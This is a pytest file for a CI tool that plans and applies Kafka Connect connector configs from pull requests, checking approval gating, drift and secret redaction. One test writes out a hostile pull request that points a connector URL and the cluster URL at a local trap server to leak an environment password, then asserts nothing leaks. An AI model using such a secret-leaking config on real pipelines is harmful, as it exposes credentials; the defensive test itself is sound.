"""What a pull request may try, and what an apply stops for."""

import json
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest

from reconcile.ci.pipeline import ForgeKind
from tests.forges.sites import PROJECT_FILE, sink, site

KINDS = pytest.mark.parametrize("kind", [ForgeKind.GITHUB, ForgeKind.GITLAB], ids=str)
SECRET = "correct-horse-battery-staple"


class Trap:
    """A server that remembers who came by."""

    def __init__(self):
        self.visits = visits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                visits.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_PUT = do_GET  # noqa: N815 - the base calls them so

            def log_message(self, *arguments):
                pass

        self._server = HTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,))
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *error):
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@KINDS
def test_a_project_in_a_folder_of_its_repository_is_planned_applied_and_watched(kind, tmp_path):
    files = {"connectors/orders.yaml": sink("orders-sink")}
    with site(kind, tmp_path, files, "kafka/connect") as place:
        repository = place.repository
        repository.branch("tasks")
        wrong = "    trnsforms: x\n    password: hunter2-hunter2\n"
        path = "kafka/connect/connectors/orders.yaml"
        head = repository.commit("More", {path: sink("orders-sink", tasks=4, more=wrong)})
        place.open(head)
        planned = place.plan(head)
        (comment,) = place.comments()
        assert "1 to change" in comment
        if kind is ForgeKind.GITHUB:
            assert f"file={path}" in planned.log
        else:
            shown = json.loads(planned.kept["codequality.json"])
            assert path in {entry["location"]["path"] for entry in shown}
            assert all(entry["location"]["path"].startswith("kafka/connect/") for entry in shown)

        done = place.apply(place.merge("tasks"))

        assert done.code == 0, done.log
        assert place.config_of("orders-sink")["tasks.max"] == "4"
        place.cluster.put("orders-sink", place.config_of("orders-sink") | {"tasks.max": "2"})
        assert place.drift(repository.head()).code == 0
        assert [state for state, *_ in place.issues()] == ["open"]


@KINDS
def test_a_rotation_that_no_pull_request_can_show_is_applied_and_named(kind, tmp_path):
    files = {"connectors/orders.yaml": sink("orders-sink")}
    with site(kind, tmp_path, files) as place:
        repository = place.repository
        token = {"connectors/a.yaml": sink("orders-a", more="    token: ${{ env.SHOP_TOKEN }}\n")}
        repository.commit("Add a secret", token)
        place.run("SHOP_TOKEN=one connectform apply --auto-approve && rm apply-result.json")
        place.extra = {"SHOP_TOKEN": SECRET}
        repository.branch("tasks")
        head = repository.commit("More", {"connectors/orders.yaml": sink("orders-sink", tasks=4)})
        place.open(head)
        place.plan(head)
        comment = place.comments()[0].replace("\\", "")
        assert "made without secrets: those of orders-a were not compared" in comment
        assert "where one was changed, it is applied as well" in comment

        done = place.apply(place.merge("tasks"))

        assert done.code == 0, done.log
        assert place.config_of("orders-a")["token"] == SECRET
        assert place.config_of("orders-sink")["tasks.max"] == "4"
        told = "only secrets of orders-a were changed (token)"
        assert told in done.log
        assert kind is ForgeKind.GITLAB or told in done.summary.replace("\\", "")
        assert SECRET not in done.log + done.summary


@KINDS
def test_a_pull_request_reaches_no_other_cluster_and_sees_no_secret(kind, tmp_path):
    files = {"connectors/orders.yaml": sink("orders-sink")}
    with Trap() as trap, site(kind, tmp_path, files) as place:
        place.extra = {"SHOP_PASSWORD": SECRET, "OTHER_SECRET": SECRET}
        repository = place.repository
        repository.branch("evil")
        evil = f"    connection.url: {trap.url}/${{{{ env.SHOP_PASSWORD }}}}\n"
        head = repository.commit(
            "Just a small fix",
            {
                "connectform.yaml": PROJECT_FILE.replace(
                    "${{ env.CONNECT_URL }}", trap.url
                ).replace('["SHOP_*"]', '["*"]'),
                "connectors/orders.yaml": sink("orders-sink", more=evil),
            },
        )
        place.open(head)

        done = place.plan(head)

        assert done.code == 0, done.log
        assert trap.visits == []
        (comment,) = place.comments()
        assert (
            "beside these definitions (other: references.env, clusters.prod.url)"
            in comment.replace("\\", "")
        )
        assert "1 to change" in comment
        for text in (done.log, done.summary, comment, *map(bytes.decode, done.kept.values())):
            assert SECRET not in text

        greedy = "    token: ${{ env.OTHER_SECRET }}\n"
        head = repository.commit(
            "Another", {"connectors/orders.yaml": sink("orders-sink", more=greedy)}
        )
        place.push(head)
        refused = place.plan(head)

        assert refused.code == 1, refused.log
        (comment,) = place.comments()
        assert "No plan for prod" in comment
        assert "OTHER\\_SECRET" in comment
        assert SECRET not in refused.log + comment
        if kind is ForgeKind.GITHUB:
            assert "::error file=connectors/orders.yaml,line=" in refused.log


@KINDS
def test_a_fork_is_validated_offline_and_told_so(kind, tmp_path):
    files = {"connectors/orders.yaml": sink("orders-sink")}
    with site(kind, tmp_path, files) as place:
        place.repository.branch("theirs")
        head = place.repository.commit(
            "From far away", {"connectors/orders.yaml": sink("orders-sink", tasks=4)}
        )
        place.open(head)
        place.extra = {"CONNECT_URL": "http://127.0.0.1:1", "CONNECTFORM_GITLAB_TOKEN": ""}
        asked = len(place.forge.trouble.log)

        done = place.plan(head, strange=True)

        assert done.code == 0, done.log
        assert "validated, and not planned" in done.log
        assert place.comments() == []
        assert len(place.forge.trouble.log) == asked
        assert "plan.json" not in done.kept


@KINDS
def test_what_lint_finds_stands_at_its_line_beside_the_plan_and_fails_the_job(kind, tmp_path):
    files = {
        "connectors/orders.yaml": sink("orders-sink"),
        "connectors/old.yaml": sink("orders-old", more="    errors.tolerance: all\n"),
    }
    with site(kind, tmp_path, files) as place:
        repository = place.repository
        repository.branch("silent")
        off = f"{PROJECT_FILE}lint: {{CF014: off}}\n"
        more = "    errors.tolerance: all\n"
        head = repository.commit(
            "Never stop",
            {
                "connectform.yaml": off,  # what is not reviewed does not turn rules off
                "connectors/orders.yaml": sink("orders-sink", more=more),
            },
        )
        place.open(head)

        done = place.plan(head)

        assert done.code == 1, done.log
        (comment,) = place.comments()
        assert "1 to change" in comment
        assert comment.count("CF014") == 1, "and not that of orders-old"
        told = done.summary if kind is ForgeKind.GITHUB else done.log
        assert "connectors/old.yaml" in told
        if kind is ForgeKind.GITHUB:
            assert "::error file=connectors/orders.yaml,line=" in done.log
            assert done.outputs["exit-code"] == "1"
        else:
            found = json.loads(done.kept["codequality.json"])
            names = [entry["check_name"] for entry in found]
            assert names.count("CF014") == 2
            assert b'type="CF014"' in done.kept["lint.xml"]

        head = repository.commit("Stop", {"connectors/orders.yaml": sink("orders-sink", tasks=2)})
        place.push(head)
        place.plan(head)
        (comment,) = place.comments()
        assert "CF014" not in comment


@KINDS
def test_what_the_pull_request_did_not_show_is_not_applied(kind, tmp_path):
    files = {"connectors/orders.yaml": sink("orders-sink")}
    with site(kind, tmp_path, files) as place:
        repository = place.repository
        repository.branch("more")
        head = repository.commit("One", {"connectors/one.yaml": sink("orders-one")})
        place.open(head)
        assert place.plan(head).code == 0
        repository.git("checkout", "--quiet", "main")
        repository.commit("Past everybody", {"connectors/two.yaml": sink("orders-two")})
        merged = place.merge("more")

        done = place.apply(merged)

        assert done.code == 5, done.log
        assert place.names() == ["orders-one", "orders-sink"]
        told = done.summary if kind is ForgeKind.GITHUB else done.log
        assert "Not approved, and left as they are: orders-two." in told.replace("\\", "")
        assert "### What is left" in told
        if kind is ForgeKind.GITHUB:
            assert (done.outputs["refused"], done.outputs["has-changes"]) == ("true", "true")


@KINDS
def test_a_merge_whose_own_run_was_dropped_is_applied_by_the_next(kind, tmp_path):
    files = {"connectors/orders.yaml": sink("orders-sink")}
    with site(kind, tmp_path, files) as place:
        repository, requests = place.repository, {}
        for name in ("one", "two", "never"):
            repository.branch(name)
            definition = {f"connectors/{name}.yaml": sink(f"orders-{name}")}
            place.open(head := repository.commit(f"Add {name}", definition))
            assert place.plan(head).code == 0
            requests[name] = place.request
        for name in ("one", "two"):
            place.request = requests[name]
            place.merge(name)
        pushed = repository.commit("Past everybody", definition)

        done = place.apply(pushed)

        assert done.code == 5, done.log
        assert place.names() == ["orders-one", "orders-sink", "orders-two"]
        assert done.log.count("its plan is approved") == 2
        assert "Not approved, and left as they are: orders-never." in done.log


def test_what_was_taken_back_before_it_was_applied_stays_as_it_was(tmp_path):
    one, four = sink("orders-sink"), sink("orders-sink", tasks=4)
    with site(ForgeKind.GITHUB, tmp_path, {"connectors/orders.yaml": one}) as place:
        repository = place.repository
        for branch, text in (("faster", four), ("back", one)):
            repository.branch(branch)
            place.open(head := repository.commit(branch, {"connectors/orders.yaml": text}))
            assert place.plan(head).code == 0
            merged = place.merge(branch)

        done = place.apply(merged)

        assert done.code == 0, done.log
        assert done.log.count("its plan is approved") == 2
        assert place.config_of("orders-sink")["tasks.max"] == "1"

        pushed = repository.commit("Past everybody", {"connectors/orders.yaml": four})
        assert place.apply(pushed).code == 4
        assert place.config_of("orders-sink")["tasks.max"] == "1"


@KINDS
def test_a_commit_without_a_pull_request_applies_nothing(kind, tmp_path):
    files = {"connectors/orders.yaml": sink("orders-sink")}
    with site(kind, tmp_path, files) as place:
        pushed = place.repository.commit(
            "Straight to main", {"connectors/two.yaml": sink("orders-two")}
        )

        done = place.apply(pushed)

        assert done.code == 4, done.log
        assert "nothing is approved" in done.log
        assert "Apply incomplete: 0 applied, 1 not approved." in done.log
        assert "Apply complete" not in done.log + done.summary
        assert place.names() == ["orders-sink"]
        assert place.drift(pushed).code == 0


@KINDS
def test_a_drift_run_that_cannot_read_the_cluster_closes_nothing(kind, tmp_path):
    files = {"connectors/orders.yaml": sink("orders-sink")}
    with site(kind, tmp_path, files) as place:
        head = place.repository.head()
        place.cluster.put("orders-sink", place.config_of("orders-sink") | {"topics": "x"})
        place.drift(head)
        ((before, _, text, _),) = place.issues()
        assert before == "open"
        place.extra = {"CONNECT_URL": "http://127.0.0.1:1"}

        done = place.drift(head)

        assert done.code == 1, done.log
        assert "not compared, its issue is left as it is" in done.log
        ((after, _, same, said),) = place.issues()
        assert (after, same, said) == ("open", text, [])
